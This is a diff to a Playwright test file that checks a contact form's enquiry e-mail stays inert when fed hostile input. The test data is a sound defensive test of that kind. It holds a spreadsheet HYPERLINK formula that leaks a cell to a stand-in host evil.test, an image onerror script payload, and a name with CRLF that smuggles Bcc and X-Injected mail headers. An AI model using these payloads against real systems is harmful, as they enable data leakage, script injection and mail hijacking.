@@ -2,6 +2,7 @@ import { backendUrl } from '@staycompliant/local-ports';
 import { demoKeys } from '../../../packages/dev-backend/src/jwt-keys';
 import { localNotifyEnquirySecret } from '../../../packages/dev-backend/src/enquiry-alert';
 import { openContactDialog, fillEnquiry, readRows, toastWith, uniqueEmail } from '../contact/contact-support';
+import type { Page } from '@playwright/test';
 import { expect, test } from '../support/fixtures';
 import { hostileMarkup, recordDialogs } from '../support/inert-text';
 import { mailHolding, waitForOneMail } from './mail-catcher';
@@ -44,47 +45,65 @@ test('a visitor sends an enquiry and within 10 s the firm has an e-mail with its
   }
 });
 
-test('a hostile enquiry is inert in the e-mail: markup, quotes and formulas are text, and a newline in the name reaches no header', async ({ page, request }, testInfo) => {
+const formula = '=HYPERLINK("http://evil.test/?leak="&A1,"Click me")';
+
+/** The HTML part, rendered as a mail client would: the visitor's text shows as text and makes nothing. */
+async function expectInertHtml(page: Page, html: string, visibleTexts: string[]) {
   const dialogs = recordDialogs(page);
-  const email = uniqueEmail('Hostile.Alert', testInfo.project.name).toLowerCase();
-  const formula = '=HYPERLINK("http://evil.test/?leak="&A1,"Click me")';
+  expect(html).not.toMatch(/<img|<script|<svg/i);
+  await page.setContent(html);
+  await expect(page.locator('img, script, svg, [onerror], [onload]')).toHaveCount(0);
+  for (const text of visibleTexts) await expect(page.getByText(text).first()).toBeVisible();
+  await expect(page.getByRole('link')).toHaveCount(1);
+  await expect(page.getByRole('link', { name: 'Open it in the inbox' })).toHaveAttribute('href', /^http:\/\/127\.0\.0\.1:4173\/admin\/enquiries\?id=[0-9a-f-]{36}$/);
+  expect(dialogs).toEqual([]);
+}
+
+test('a hostile enquiry sent through the dialog is inert in the e-mail: markup, quotes and a formula stay text', async ({ page }, testInfo) => {
+  const email = uniqueEmail('Hostile.Form', testInfo.project.name);
+  const name = `Mallory ${hostileMarkup.image} "O'Neil"`;
+  const description = `${formula} ${hostileMarkup.script} ${hostileMarkup.attributeBreakout} & done`;
+  await page.goto('/about');
+  const dialog = await openContactDialog(page);
+  await fillEnquiry(page, dialog, { name, email, companySize: 'Fewer than 10 employees', services: ['Legal Services'], description });
+  await dialog.getByRole('button', { name: 'Submit' }).click();
+  await expect(toastWith(page, thanks)).toBeVisible();
+
+  const { mail } = await waitForOneMail(email.toLowerCase(), 10_000);
+  expect(mail.subject).toBe(`New enquiry from ${name} (less than 10)`);
+  expect(mail.html).toContain('Mallory &lt;img src=x onerror=alert(1)&gt; &quot;O&#39;Neil&quot;');
+  expect(mail.html).toContain('=HYPERLINK(&quot;http://evil.test/?leak=&quot;&amp;A1,&quot;Click me&quot;)');
+  expect(mail.text).toContain(`Name: ${name}`);
+  expect(mail.text).toContain(description);
+  await expectInertHtml(page, mail.html, [name, formula, hostileMarkup.script]);
+});
+
+test('a newline in the name, sent as anon through the REST API, reaches no mail header', async ({ page, request }, testInfo) => {
+  const email = uniqueEmail('Hostile.Header', testInfo.project.name).toLowerCase();
+  // The dialog's Name field is one line; a script can still send one as anon.
   const hostile = {
     name: `Mallory ${hostileMarkup.image}\r\nBcc: victim@example.com\nX-Injected: yes`,
     email,
     company_size: 'less than 10',
     services_interested: ['Legal Services'],
-    description: `${formula}\n${hostileMarkup.script} ${hostileMarkup.attributeBreakout} "double" 'single' & done`,
+    description: `${formula}\n"double" 'single' & done`,
   };
-  // The form's Name field is one line, so the newline comes as anon through the REST API, as a script could send it.
   const { anonKey } = demoKeys();
   const stored = await request.post(`${backendUrl()}/rest/v1/contact_submissions`, {
     headers: { apikey: anonKey, Authorization: `Bearer ${anonKey}`, 'Content-Type': 'application/json' },
     data: hostile,
   });
   expect(stored.status()).toBe(201);
+  const [row] = await readRows<{ name: string }>(request, 'contact_submissions', `email=eq.${encodeURIComponent(email)}`);
+  expect(row!.name).toBe(hostile.name);
 
   const { mail } = await waitForOneMail(email, 10_000);
   expect(mail.subject).toBe(`New enquiry from Mallory ${hostileMarkup.image} Bcc: victim@example.com X-Injected: yes (less than 10)`);
   expect(Object.keys(mail.headers)).not.toContain('x-injected');
   expect(Object.keys(mail.headers)).not.toContain('bcc');
   expect(JSON.stringify(mail.to)).not.toContain('victim');
-  expect(mail.html).not.toContain('<img');
-  expect(mail.html).not.toContain('<script');
-  expect(mail.html).not.toContain('<svg');
-  expect(mail.html).toContain('=HYPERLINK(&quot;http://evil.test/?leak=&quot;&amp;A1,&quot;Click me&quot;)');
-  expect(mail.text).toContain(formula);
-
-  // Rendered as a mail client would, the HTML part shows the visitor's text and makes nothing of it.
-  await page.setContent(mail.html);
-  await expect(page.locator('img, script, svg, [onerror], [onload]')).toHaveCount(0);
-  await expect(page.getByText(hostileMarkup.image).first()).toBeVisible();
-  await expect(page.getByText(formula)).toBeVisible();
-  await expect(page.getByRole('link')).toHaveCount(1);
-  await expect(page.getByRole('link', { name: 'Open it in the inbox' })).toHaveAttribute('href', /^http:\/\/127\.0\.0\.1:4173\/admin\/enquiries\?id=[0-9a-f-]{36}$/);
-  expect(dialogs).toEqual([]);
-
-  const [row] = await readRows<{ name: string }>(request, 'contact_submissions', `email=eq.${encodeURIComponent(email)}`);
-  expect(row!.name).toBe(hostile.name);
+  expect(mail.text).not.toMatch(/^(Bcc|X-Injected):/m);
+  await expectInertHtml(page, mail.html, ['Bcc: victim@example.com', formula]);
 });
 
 test('the function answers 401 to a call without the shared secret, or with a wrong one, and sends nothing', async ({ request }, testInfo) => {
